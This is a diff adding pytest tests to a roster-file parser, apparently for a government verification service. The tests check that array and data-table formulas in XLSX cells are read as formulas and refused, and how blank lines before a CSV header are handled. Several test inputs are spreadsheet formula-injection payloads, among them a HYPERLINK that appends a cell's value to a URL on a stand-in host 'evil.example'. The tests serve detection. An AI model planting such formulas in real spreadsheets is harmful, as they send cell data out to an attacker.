@@ -9,10 +9,14 @@ import zipfile
 
 import openpyxl.xml
 import pytest
+from openpyxl import Workbook
+from openpyxl.worksheet.formula import ArrayFormula, DataTableFormula
 
 from tests.verification.rosters.helpers import csv_bytes, person, xlsx_bytes
+from verification.rosters import checks
 from verification.rosters.parsing import (
     CSV,
+    HEADERS,
     MAX_BLANK_LINES,
     XLSX,
     RosterFileError,
@@ -65,6 +69,36 @@ def test_a_formula_in_an_xlsx_cell_is_read_as_the_formula_not_its_value():
     content = xlsx_bytes([person(1, Name='=HYPERLINK("http://evil.example","click")')])
     (_line, cells), = rows_of(content, XLSX)
     assert cells["name"].startswith("=HYPERLINK(")
+
+
+def test_an_array_or_data_table_formula_in_an_xlsx_cell_is_read_as_a_formula():
+    """openpyxl gives such cells as objects: they are read as the formula they hold (for
+    the formula check to refuse), never as the object's name."""
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append(HEADERS)
+    sheet.append([person(1)[header] for header in HEADERS])
+    sheet["A2"] = ArrayFormula("A2", '=HYPERLINK("http://evil.example/?"&B2,"Click")')
+    sheet["D2"] = DataTableFormula(ref="D2", r1="A1", r2="B1")
+    out = io.BytesIO()
+    workbook.save(out)
+    (_line, cells), = rows_of(out.getvalue(), XLSX)
+    assert cells["name"] == '=HYPERLINK("http://evil.example/?"&B2,"Click")'
+    assert cells["designation"] == "=TABLE(A1,B1)"
+    assert checks._check_cells(2, cells).columns["formula"] == ["name", "designation"]
+
+
+def test_blank_lines_before_the_header_are_read_past():
+    """A file saved with an empty first line (or a few) is read from its header, its lines
+    numbered as the spreadsheet numbers them, with its own delimiter."""
+    rows = rows_of(b"\r\n \r\n" + csv_bytes([person(1)], bom=False, delimiter=";"))
+    assert [(line, cells["email"]) for line, cells in rows] == [(4, "person1@pune.mahaagri.gov.in")]
+    rows = rows_of("\ufeff\r\n".encode() + csv_bytes([person(1)], bom=False))
+    assert [line for line, _cells in rows] == [3]
+    with pytest.raises(RosterFileError, match="more than 10,000 empty rows"):
+        rows_of(b"\n" * (MAX_BLANK_LINES + 1) + csv_bytes([person(1)], bom=False))
+    with pytest.raises(RosterFileError, match="The file is empty"):
+        rows_of(b"\r\n \r\n\r\n")
 
 
 @pytest.mark.parametrize(("content", "message"), [
